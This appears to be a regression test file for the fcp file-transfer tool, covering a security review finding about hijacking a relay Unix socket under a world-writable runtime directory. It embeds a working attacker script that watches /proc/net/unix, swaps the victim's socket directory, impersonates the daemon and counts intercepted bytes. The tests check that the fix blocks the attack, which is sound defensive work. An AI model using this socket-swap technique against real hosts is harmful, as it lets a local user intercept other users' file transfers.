// Review finding F4 (session 13): a local user on the remote host, with no credentials, swaps the serve-once
// relay socket when a directory above it is writable by others without the sticky bit. Here XDG_RUNTIME_DIR
// is a root-owned 0777 directory; the attacker (a real unprivileged account) watches /proc/net/unix for the
// socket with the control connection on it, renames the user's `fcp` directory aside and listens at the same
// path, playing daemon for ATTACH. Before the fix it was handed three carried connections and read the push
// in plaintext. Now the run directory is not put under such a parent (spec/SECURITY.md §14.4, PROTOCOL.md
// §8.3): nothing reaches the attacker and the push completes.
import { spawn } from 'node:child_process';
import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import * as assert from 'uvu/assert';
import { accountWithHome } from '../helpers/accounts.js';
import { describeRun, runFcp } from '../helpers/cli.js';
import { eventually } from '../helpers/detached.js';
import { MiB } from '../helpers/reliability.js';
import { cleanUp, sshd, tempDir } from '../helpers/ssh-fcp.js';
import { test } from '../helpers/test.js';

test.after.each(cleanUp);

const DIST = fileURLToPath(new URL('../..', import.meta.url));

/**
 * The attacker of the review's PoC (/tmp/s13review3/p4/attacker.mjs), run as another user: argv DIST, the
 * directory to swap, its log. It exits when its stdin ends, after logging how many bytes it got after ATTACH.
 */
const ATTACKER = `
import fs from 'node:fs';
import net from 'node:net';
import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
const [dist, dir, log] = process.argv.slice(2);
const { RawPeer, helloMsg } = await import(dist + '/test/helpers/raw-peer.js');
const { loadHasher } = await import(dist + '/src/transfer/checksum.js');
const { MsgType } = await import(dist + '/src/protocol/index.js');
const note = (line) => fs.appendFileSync(log, line + '\\n');
let bytes = 0;
process.stdin.on('end', () => { note('bytes after ATTACH: ' + bytes); process.exit(0); });
process.stdin.resume();
note('watching');
let sock;
for (let i = 0; i < 120000 && sock === undefined; i++) {
  const lines = fs.readFileSync('/proc/net/unix', 'utf8').split('\\n').filter((l) => l.includes(dir + '/serve-once-'));
  if (lines.length >= 2) sock = lines[0].trim().split(/\\s+/).pop();
  else await sleep(1);
}
if (sock !== undefined) {
  fs.renameSync(dir, dir + '.moved');
  fs.mkdirSync(dir, { mode: 0o755 });
  const hasher = await loadHasher();
  const server = net.createServer(async (s) => {
    const peer = new RawPeer(s, hasher);
    try {
      await peer.expect(MsgType.Hello);
      await peer.send(helloMsg());
      const att = await peer.expect(MsgType.Attach);
      await peer.send({ type: MsgType.AttachChallenge, nonce: randomBytes(32) });
      await peer.expect(MsgType.AttachProof);
      await peer.send({ type: MsgType.Attach, sessionId: att.sessionId });
      note('attached');
    } catch (e) { note('refused: ' + e.message); }
    s.on('data', (d) => { bytes += d.length; });
  });
  server.listen(sock, () => { fs.chmodSync(sock, 0o777); note('listening at ' + sock); });
}
`;

/**
 * Pushes a 7 MiB file over ssh, carried, 4 connections, with the remote's XDG_RUNTIME_DIR a fresh directory
 * of `xdgMode` while the attacker runs (as `as`, or as us) to swap `$XDG_RUNTIME_DIR/fcp`. Returns the
 * attacker's log and the push's result; the file must have arrived whole.
 */
async function pushUnderSwap(
  xdgMode: number,
  as: string | undefined,
): Promise<{ said: string; stderr: string }> {
  const xdg = tempDir('fcp-relay-xdg-');
  chmodSync(xdg, xdgMode);
  const scripts = tempDir('fcp-relay-attacker-');
  chmodSync(scripts, 0o755);
  const script = path.join(scripts, 'attacker.mjs');
  writeFileSync(script, ATTACKER, { mode: 0o644 });
  const log = path.join(scripts, 'attacker.log');
  writeFileSync(log, '', { mode: 0o666 });
  chmodSync(log, 0o666);

  const s = await sshd({ path: { fcpd: true, node: true } });
  const wrap = path.join(scripts, 'fcpd-xdg');
  writeFileSync(wrap, `#!/bin/sh\nXDG_RUNTIME_DIR='${xdg}' exec fcpd "$@"\n`, { mode: 0o755 });
  const src = path.join(tempDir(), 'secret.txt');
  const line = 'TOP-SECRET-PAYROLL-LINE 0123456789\n';
  writeFileSync(src, line.repeat(Math.ceil((7 * MiB) / line.length)));
  const remote = tempDir('fcp-ssh-remote-');

  const argv = [script, DIST, path.join(xdg, 'fcp'), log];
  const spy =
    as === undefined
      ? spawn(process.execPath, argv, { stdio: ['pipe', 'inherit', 'inherit'] })
      : spawn('runuser', ['-u', as, '--', process.execPath, ...argv], {
          stdio: ['pipe', 'inherit', 'inherit'],
        });
  const spyExit = new Promise((resolve) => spy.once('exit', resolve));
  try {
    await eventually(10_000, 'the attacker started', () => readFileSync(log, 'utf8').includes('watching'));
    const r = await runFcp(
      [
        `--ssh=${s.sshCommand}`,
        '--ssh-transport=carried',
        '-n',
        '4',
        '--bwlimit',
        '4000000',
        '--remote-fcpd',
        wrap,
        'push',
        src,
        `${s.alias}:${remote}/`,
      ],
      { timeoutMs: 30_000 },
    );
    spy.stdin.end();
    await spyExit;
    const said = readFileSync(log, 'utf8');
    assert.match(said, /^bytes after ATTACH: 0$/m, said);
    assert.is(r.code, 0, describeRun(r));
    assert.ok(readFileSync(path.join(remote, 'secret.txt')).equals(readFileSync(src)), 'copied whole');
    return { said, stderr: r.stderr };
  } finally {
    spy.stdin.end();
    await spyExit;
  }
}

test('F4: another local user cannot swap the relay socket under a 0777 XDG_RUNTIME_DIR and read a push', async () => {
  const { said } = await pushUnderSwap(0o777, accountWithHome('fcpuser-relay').name);
  // The run directory went elsewhere (~/.cache/fcp/run): the attacker never saw a socket to swap.
  assert.not.match(said, /listening|attached/, said);
});

test('F4: an impostor at the relay socket path answers ATTACH and gets no byte: the daemon must prove the secret', async () => {
  // As us, in a private XDG_RUNTIME_DIR: the directory checks pass, so only the daemon's proof in its ATTACH
  // answer (Capability.AttachProven) keeps the data off the impostor's connections.
  const { said, stderr } = await pushUnderSwap(0o700, undefined);
  assert.match(said, /attached/, said);
  assert.match(stderr, /without proof of the session secret/, stderr);
});

test.run();
